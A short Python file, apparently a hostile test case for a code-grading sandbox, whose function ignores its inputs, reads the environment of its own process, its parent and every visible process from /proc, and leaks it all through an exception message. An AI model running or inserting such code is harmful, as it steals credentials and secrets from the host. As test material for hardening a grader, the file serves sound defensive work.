# Hostile: reads its parent's and every visible process's environment, and its own, and
# leaks them through an exception message.
# expect: graded
import glob
import os


def graphdef_vs_state(seed, x, features, hidden):
    loot = [repr(dict(os.environ))]
    for path in [f"/proc/{os.getppid()}/environ", *glob.glob("/proc/*/environ")]:
        try:
            with open(path, "rb") as handle:
                loot.append(handle.read().decode(errors="replace"))
        except OSError:
            pass
    raise RuntimeError("LOOT:" + " | ".join(loot))
